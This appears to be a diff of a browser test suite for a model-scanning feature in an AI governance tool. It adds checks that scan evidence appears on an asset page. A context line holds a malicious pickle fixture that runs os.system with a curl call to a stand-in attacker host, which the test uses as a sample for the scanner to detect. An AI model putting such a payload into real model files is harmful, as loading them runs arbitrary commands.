@@ -31,7 +31,7 @@ const maliciousPickle = Buffer.from("cos\nsystem\n(S'curl https://attacker.test 
  * Someone who checks the models an AI system uses: the empty Model scans page says how to scan, a
  * report the scanner wrote is uploaded for the model's asset, the scan page shows the malicious file's
  * findings and raises a nonconformity from one, the asset page shows the latest scan and scans a file
- * on the server, and the scan's evidence is on the supply-chain control.
+ * on the server, and the scan's evidence is on the supply-chain control and on the asset, whose page lists it.
  */
 describe("model scans in the browser", () => {
   let h: Awaited<ReturnType<typeof startBrowserHarness>>;
@@ -183,6 +183,16 @@ describe("model scans in the browser", () => {
       await page.getByRole("row", { name: new RegExp(ref.replace(/\./g, "\\.")) }).waitFor();
     await page.getByRole("row", { name: new RegExp(SYSTEM) }).waitFor();
     await check("scan evidence record");
+
+    // 8. The evidence is filed on the asset too: its link opens the asset page, which lists both scans' evidence.
+    const linked = page.getByRole("region", { name: "Linked to", exact: true });
+    await linked.getByRole("row", { name: /Inventory asset/ }).waitFor();
+    await linked.getByRole("link", { name: ASSET, exact: true }).click();
+    await page.getByRole("heading", { name: ASSET, level: 1 }).waitFor();
+    const assetEvidence = page.getByRole("region", { name: "Evidence", exact: true });
+    await assetEvidence.getByRole("link", { name: /^Model scan MS-1 of credit-scorer-v3/ }).waitFor();
+    await assetEvidence.getByRole("link", { name: /^Model scan MS-2 of credit-scorer-v3/ }).waitFor();
+    await check("asset page with the scans' evidence");
     const controls = await callApiFromPage(page, "GET", `${base}/controls?limit=200`);
     const supplier = (controls.json.items as { id: string; ref: string }[]).find((c) => c.ref === "A.10.3");
     expect(supplier).toBeDefined();
